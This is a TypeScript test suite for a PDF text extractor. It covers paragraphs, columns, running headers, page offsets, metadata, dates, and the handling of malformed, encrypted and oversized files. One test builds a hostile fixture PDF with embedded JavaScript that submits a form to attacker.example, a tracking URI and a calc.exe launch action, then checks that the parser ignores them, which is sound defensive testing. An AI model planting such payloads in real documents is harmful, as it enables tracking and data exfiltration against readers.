import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { parsePdf, pdfDateToIso } from '../../src-main/core/extract/pdf';
import { isNormalized } from '../../src-main/core/extract/normalize';
import type { ParsedSource } from '../../src-main/core/extract/types';
import { makeArticlePdf, makePdf, pdfString } from '../support/pdf-fixture';

async function parsed(bytes: Uint8Array): Promise<ParsedSource> {
  const outcome = await parsePdf(bytes);
  if (!outcome.ok) assert.fail(`expected text, got ${outcome.error.code}: ${outcome.error.message}`);
  return outcome.value;
}

/** The invariants every parsed PDF keeps: normalized text, pages in order from 0, spans sorted and inside the text. */
function assertShape(source: ParsedSource, pageCount: number): void {
  assert.equal(source.format, 'pdf');
  assert.ok(isNormalized(source.rawText), 'rawText is normalized');
  const pages = source.pages ?? [];
  assert.deepEqual(pages.map((page) => page.page), Array.from({ length: pageCount }, (_, index) => index + 1));
  assert.equal(pages[0]?.start, 0);
  for (const [index, page] of pages.entries()) {
    assert.ok(page.start >= 0 && page.start <= source.rawText.length);
    if (index > 0) {
      assert.ok(page.start >= (pages[index - 1]?.start ?? 0));
      // A page that has text begins right after a blank line, or inside a paragraph its first words continue.
      if (page.start > 0 && page.start < source.rawText.length) {
        const before = source.rawText.slice(page.start - 2, page.start);
        assert.ok(before === '\n\n' || /[ \p{Ll}]$/u.test(before), `page ${page.page} starts after ${JSON.stringify(before)}`);
      }
    }
  }
  let end = 0;
  for (const span of source.boilerplate) {
    assert.ok(span.start >= end && span.end > span.start && span.end <= source.rawText.length);
    end = span.end;
  }
}

/** The page (1-based) on which an offset of rawText lies. */
function pageAt(source: ParsedSource, offset: number): number {
  let page = 0;
  for (const start of source.pages ?? []) if (start.start <= offset) page = start.page;
  return page;
}

/** The rawText of one page (1-based). */
function pageSlice(source: ParsedSource, page: number): string {
  const pages = source.pages ?? [];
  const start = pages[page - 1]?.start ?? 0;
  const end = pages[page]?.start ?? source.rawText.length;
  return source.rawText.slice(start, end);
}

const ARTICLE = [
  'Officials in the port city confirmed on Tuesday that the harbour authority had awarded the dredging contract without a public tender, a decision critics say broke the procurement rules adopted last year.',
  '“We followed every rule that applied to an emergency,” said Maria Olsen, the authority’s director, in an interview. She said the silt had made the main channel unsafe for the largest ships.',
  'Documents seen by reporters show that the contract was signed eleven days before the channel survey that found the silt. The survey itself was paid for by the company that won the contract.',
  'The city council will debate the contract next week. Two members have asked the auditor general to open an investigation into the award and into the survey that preceded it.',
  'The company did not respond to repeated requests for comment. Its website lists the harbour as a client.',
];

test('a multi-page article: metadata, paragraphs, page starts, curly quotes', async () => {
  const bytes = makeArticlePdf(ARTICLE, { Title: 'Harbour contract awarded without tender', Author: 'By Jane Doe', CreationDate: "D:20250314093000+01'00'" }, { rowsPerPage: 10 });
  const source = await parsed(bytes);
  const pageCount = source.pages?.length ?? 0;
  assert.ok(pageCount >= 2, 'the article spans several pages');
  assertShape(source, pageCount);
  assert.deepEqual(source.metadata, {
    title: 'Harbour contract awarded without tender',
    outlet: null,
    byline: 'Jane Doe',
    published: '2025-03-14T09:30:00+01:00',
    url: null,
  });
  // Every paragraph comes back whole (lines joined by one space), page breaks aside.
  for (const paragraph of ARTICLE.slice(0, 2)) assert.ok(source.rawText.includes(paragraph), paragraph);
  assert.ok(source.rawText.startsWith(`${ARTICLE[0]}\n\n${ARTICLE[1]}`));
  // The quote survives with its curly quotes: the quote feature needs them.
  assert.ok(source.rawText.includes('“We followed every rule that applied to an emergency,” said Maria Olsen'));
  // A passage printed on page 2 maps to page 2.
  const passage = 'The company did not respond to repeated requests for comment.';
  const lastPage = pageCount;
  assert.ok(pageSlice(source, lastPage).includes(passage));
  assert.equal(pageAt(source, source.rawText.indexOf(passage)), lastPage);
  assert.ok(lastPage >= 2);
  assert.equal(pageAt(source, source.rawText.indexOf('Officials in the port city')), 1);
});

test('the parser leaves the caller’s bytes intact', async () => {
  const bytes = makeArticlePdf(['One short paragraph.']);
  const copy = bytes.slice();
  await parsed(bytes);
  assert.deepEqual(bytes, copy);
});

test('a word split by a hyphen at a line end is rejoined only when lowercase', async () => {
  const source = await parsed(
    makePdf({
      pages: [{ lines: ['Prosecutors opened an inves-', 'tigation into the award, the Anglo-', 'Saxon way, on a well-', 'Known day.'] }],
    }),
  );
  assert.equal(source.rawText, 'Prosecutors opened an investigation into the award, the Anglo- Saxon way, on a well- Known day.');
});

test('paragraphs: a blank row, an indented first line or a short line ending a sentence start a new one', async () => {
  const full = 'This line runs across most of the width of the column so that it reads as full';
  const source = await parsed(
    makePdf({
      pages: [{ lines: [full, 'and it goes on here.', '', full, 'ending short.', full, { text: 'indented start of a paragraph', indent: 18 }, 'more text.'] }],
    }),
  );
  assert.deepEqual(source.rawText.split('\n\n'), [
    `${full} and it goes on here.`,
    `${full} ending short.`,
    full,
    'indented start of a paragraph more text.',
  ]);
});

test('one-line paragraphs separated by blank rows stay separate', async () => {
  const source = await parsed(makeArticlePdf(['First short paragraph.', 'Second one.', 'Third.']));
  assert.equal(source.rawText, 'First short paragraph.\n\nSecond one.\n\nThird.');
});

test('two columns are read left column first, then the right one, under a full-width headline', async () => {
  const left = ['The left column starts the story', 'and carries on for several lines', 'until its first paragraph ends.', '', 'A second paragraph on the left', 'closes the left column here.'];
  const right = ['The right column continues it', 'with more lines of the report', 'and ends the story right here.'];
  const source = await parsed(makePdf({ pages: [{ above: ['Port deal questioned'], lines: left, rightColumn: right }] }));
  assertShape(source, 1);
  assert.deepEqual(source.rawText.split('\n\n'), [
    'Port deal questioned',
    'The left column starts the story and carries on for several lines until its first paragraph ends.',
    'A second paragraph on the left closes the left column here.',
    'The right column continues it with more lines of the report and ends the story right here.',
  ]);
});

test('a single-column page is not split into columns', async () => {
  const source = await parsed(makeArticlePdf([ARTICLE[0] ?? '', ARTICLE[2] ?? '']));
  assert.equal(source.rawText, `${ARTICLE[0]}\n\n${ARTICLE[2]}`);
});

test('running headers, footers and page numbers are kept but marked as navigation', async () => {
  const bodies = ['The first page tells the start.', 'The second page goes on.', 'The third page ends it.'];
  const source = await parsed(
    makePdf({ pages: bodies.map((body) => ({ lines: [body] })), header: 'The Harbour Gazette', footer: 'Confidential draft', pageNumbers: true }),
  );
  assertShape(source, 3);
  const marked = source.boilerplate.map((span) => source.rawText.slice(span.start, span.end));
  assert.deepEqual(marked, ['The Harbour Gazette', 'Confidential draft', '1', 'The Harbour Gazette', 'Confidential draft', '2', 'The Harbour Gazette', 'Confidential draft', '3']);
  assert.ok(source.boilerplate.every((span) => span.reason === 'navigation'));
  for (const [index, body] of bodies.entries()) {
    assert.ok(pageSlice(source, index + 1).includes(body));
    const offset = source.rawText.indexOf(body);
    assert.ok(!source.boilerplate.some((span) => span.start <= offset && offset < span.end), 'body text is not boilerplate');
  }
});

test('a line at the top of one page only is not a running header', async () => {
  const source = await parsed(makePdf({ pages: [{ lines: ['Only here'] }, { lines: ['Elsewhere'] }, { lines: ['Somewhere else'] }] }));
  assert.deepEqual(source.boilerplate, []);
});

test('a page without text points where the next text begins', async () => {
  const source = await parsed(makePdf({ pages: [{ lines: ['Page one.'] }, { image: true }, { lines: ['Page three.'] }, { image: true }] }));
  assertShape(source, 4);
  assert.equal(source.rawText, 'Page one.\n\nPage three.');
  assert.deepEqual(source.pages, [
    { page: 1, start: 0 },
    { page: 2, start: 11 },
    { page: 3, start: 11 },
    { page: 4, start: 22 },
  ]);
});

test('a scan (images, no text layer) is refused with no-text', async () => {
  const outcome = await parsePdf(makePdf({ pages: [{ image: true }, { image: true }] }));
  assert.equal(outcome.ok, false);
  if (outcome.ok) return;
  assert.equal(outcome.error.code, 'no-text');
  assert.match(outcome.error.message, /scan/);
});

test('a password-protected PDF is refused as unreadable', async () => {
  const outcome = await parsePdf(makePdf({ pages: [{ lines: ['Secret text.'] }], encrypt: true }));
  assert.equal(outcome.ok, false);
  if (outcome.ok) return;
  assert.equal(outcome.error.code, 'unreadable');
  assert.match(outcome.error.message, /password/);
});

test('damaged files starting with %PDF are refused as malformed, without throwing or hanging', async () => {
  const whole = makeArticlePdf(ARTICLE);
  const samples = [
    new TextEncoder().encode('%PDF-1.4\n1 0 obj << /Type /Catalog'),
    new TextEncoder().encode('%PDF-1.7\n'),
    new TextEncoder().encode(`%PDF-1.4\n${'garbage '.repeat(500)}`),
    whole.slice(0, 60),
  ];
  for (const bytes of samples) {
    const outcome = await parsePdf(bytes);
    assert.equal(outcome.ok, false);
    if (!outcome.ok) assert.equal(outcome.error.code, 'malformed');
  }
  // Cut in the middle of the last page's objects: an answer as data either way, never an exception.
  const cut = await parsePdf(whole.slice(0, Math.floor(whole.length * 0.8)));
  assert.ok(cut.ok || ['malformed', 'no-text'].includes(cut.error.code));
});

test('a hostile PDF: JavaScript, links and launch actions are ignored, the text is read', async () => {
  const marker = globalThis as { __pwned?: unknown };
  delete marker.__pwned;
  const bytes = makePdf({
    pages: [{ lines: ['The text of a hostile file is still read.'] }],
    hostile: {
      javaScript: 'globalThis.__pwned = true; app.alert("pwned"); this.submitForm("https://attacker.example/x");',
      uri: 'https://attacker.example/track',
      launch: 'calc.exe',
    },
  });
  const realFetch = globalThis.fetch;
  const fetched: unknown[] = [];
  globalThis.fetch = (async (input: unknown) => {
    fetched.push(input);
    throw new Error('no network in tests');
  }) as typeof fetch;
  try {
    const source = await parsed(bytes);
    assert.equal(source.rawText, 'The text of a hostile file is still read.');
  } finally {
    globalThis.fetch = realFetch;
  }
  assert.equal(marker.__pwned, undefined);
  assert.deepEqual(fetched, []);
});

test('limits: too many pages and too much text are refused as too-large', async () => {
  const bytes = makePdf({ pages: [{ lines: ['One.'] }, { lines: ['Two.'] }, { lines: ['Three.'] }] });
  const pages = await parsePdf(bytes, { maxPages: 2 });
  assert.equal(pages.ok ? 'ok' : pages.error.code, 'too-large');
  const chars = await parsePdf(bytes, { maxChars: 8 });
  assert.equal(chars.ok ? 'ok' : chars.error.code, 'too-large');
  assert.equal((await parsePdf(bytes, { maxPages: 3, maxChars: 100 })).ok, true);
});

test('junk titles and account names are dropped; a day-only date stays a day', async () => {
  const source = await parsed(makePdf({ pages: [{ lines: ['Text.'] }], info: { Title: 'Microsoft Word - draft3.docx', Author: 'Administrator', CreationDate: 'D:20250102' } }));
  assert.deepEqual(source.metadata, { title: null, outlet: null, byline: null, published: '2025-01-02', url: null });
  for (const title of ['untitled', 'Untitled-1', 'report_final.pdf', 'Document1']) {
    const other = await parsed(makePdf({ pages: [{ lines: ['Text.'] }], info: { Title: title } }));
    assert.equal(other.metadata.title, null, title);
  }
});

test('PDF dates become ISO dates or timestamps', () => {
  assert.equal(pdfDateToIso('D:20240305'), '2024-03-05');
  assert.equal(pdfDateToIso("D:20240305143000+01'00'"), '2024-03-05T14:30:00+01:00');
  assert.equal(pdfDateToIso('D:20240305143000Z'), '2024-03-05T14:30:00+00:00');
  assert.equal(pdfDateToIso('D:20240305143000'), '2024-03-05');
  assert.equal(pdfDateToIso('D:2024'), null);
  assert.equal(pdfDateToIso('yesterday'), null);
});

test('fixture strings escape ( ) \\ and write curly quotes as WinAnsi codes', async () => {
  assert.equal(pdfString('a (b) c\\d “q” ‘s’'), '(a \\(b\\) c\\\\d \\223q\\224 \\221s\\222)');
  const source = await parsed(makePdf({ pages: [{ lines: ['Parens (kept) and a \\ backslash, “quoted” and ‘single’ — dash.'] }] }));
  assert.equal(source.rawText, 'Parens (kept) and a \\ backslash, “quoted” and ‘single’ — dash.');
});

test('fixture: the xref table points exactly at every object and startxref at the table', () => {
  const file = new TextDecoder().decode(makePdf({ pages: [{ lines: ['One.'] }, { image: true }], info: { Title: 'T' }, header: 'H', pageNumbers: true }));
  const startxref = Number(/startxref\n(\d+)\n%%EOF\n$/.exec(file)?.[1]);
  assert.ok(file.startsWith('xref\n', startxref));
  const entries = [...file.slice(startxref).matchAll(/^(\d{10}) 00000 n $/gm)].map((match) => Number(match[1]));
  assert.ok(entries.length >= 8);
  entries.forEach((offset, index) => assert.ok(file.startsWith(`${index + 1} 0 obj\n`, offset), `object ${index + 1}`));
  assert.match(file, new RegExp(`/Size ${entries.length + 1} `));
});

test('property: every page’s words come back in order within that page’s text', async () => {
  const word = fc.constantFrom('harbour', 'contract', 'tender', 'council', 'Olsen', 'silt', 'survey', 'audit', 'said', 'the', 'a', 'of', 'channel.', 'ships,', 'week');
  const page = fc.array(fc.array(word, { minLength: 1, maxLength: 40 }), { minLength: 1, maxLength: 4 });
  await fc.assert(
    fc.asyncProperty(fc.array(page, { minLength: 1, maxLength: 3 }), async (pages) => {
      const bytes = makePdf({ pages: pages.map((paragraphs) => ({ lines: paragraphs.flatMap((words) => [...wrapWords(words), '']) })) });
      const source = await parsed(bytes);
      assertShape(source, pages.length);
      // Lines repeated at the top or foot of the pages are running lines: kept, marked, and read after a paragraph a
      // page break cut (so they may sit past the next page's start). Every other word is on its own page, in order.
      const running = source.boilerplate.map((span) => source.rawText.slice(span.start, span.end));
      for (const [index, paragraphs] of pages.entries()) {
        const start = source.pages?.[index]?.start ?? 0;
        const slice = [...pageSlice(source, index + 1)]
          .map((character, offset) => (source.boilerplate.some((span) => start + offset >= span.start && start + offset < span.end) ? ' ' : character))
          .join('');
        let cursor = 0;
        for (const line of paragraphs.flatMap(wrapWords)) {
          if (running.includes(line)) continue;
          for (const expected of line.split(' ')) {
            const found = slice.indexOf(expected, cursor);
            assert.ok(found >= 0, `page ${index + 1}: "${expected}" after ${cursor} in ${JSON.stringify(slice)}`);
            cursor = found + expected.length;
          }
        }
      }
    }),
    { numRuns: 25 },
  );
});

/** Words in lines of at most eight. */
function wrapWords(words: string[]): string[] {
  const lines: string[] = [];
  for (let index = 0; index < words.length; index += 8) lines.push(words.slice(index, index + 8).join(' '));
  return lines;
}

test('a PDF read from disk (a Node Buffer, a view into a larger pool) is read like any bytes, and left intact', async () => {
  const bytes = makeArticlePdf(['The harbour will close on Friday, the port authority said in a statement on Monday.']);
  const pool = Buffer.alloc(bytes.length + 64, 0x20);
  pool.set(bytes, 16);
  const view = pool.subarray(16, 16 + bytes.length);
  const source = await parsed(view);
  assert.match(source.rawText, /close on Friday/);
  assert.deepEqual(Uint8Array.from(view), bytes, 'the caller\'s bytes are unchanged');
});

test('a paragraph cut by a page break is joined again (a hyphenated word too); a heading at a page\'s foot is not', async () => {
  const source = await parsed(
    makePdf({
      header: 'THE HARBOUR REPORT',
      pageNumbers: true,
      pages: [
        { lines: ['The director of the port authority said on Monday that the harbour', 'would close, adding: “We reject any'] },
        { lines: ['form of interference with the inves-'] },
        { lines: ['tigation.” The council meets on Friday to vote on the budget for repairs.', '', 'Timeline of the closure'] },
        { lines: ['The closure was first discussed in March, when the engineers reported cracks.'] },
      ],
    }),
  );
  assertShape(source, 4);
  const reading = source.rawText;
  assert.match(reading, /adding: “We reject any form of interference with the investigation\.” The council meets/);
  const starts = (source.pages ?? []).map((page) => page.start);
  assert.equal(reading.slice(starts[1], starts[1]! + 'form of'.length), 'form of', 'page 2 begins where its words do');
  assert.equal(reading.slice(starts[2], starts[2]! + 'tigation'.length), 'tigation');
  assert.equal(pageAt(source, reading.indexOf('Timeline')), 3);
  assert.equal(pageAt(source, reading.indexOf('The closure was first')), 4);
  assert.match(reading, /Timeline of the closure\n\n/, 'a short line without a full stop at the foot of a page stays a heading');
  // The running header is kept, marked, after the paragraph it interrupted.
  const headers = source.boilerplate.filter((span) => reading.slice(span.start, span.end) === 'THE HARBOUR REPORT');
  assert.ok(headers.length >= 3, `running headers marked: ${headers.length}`);
});
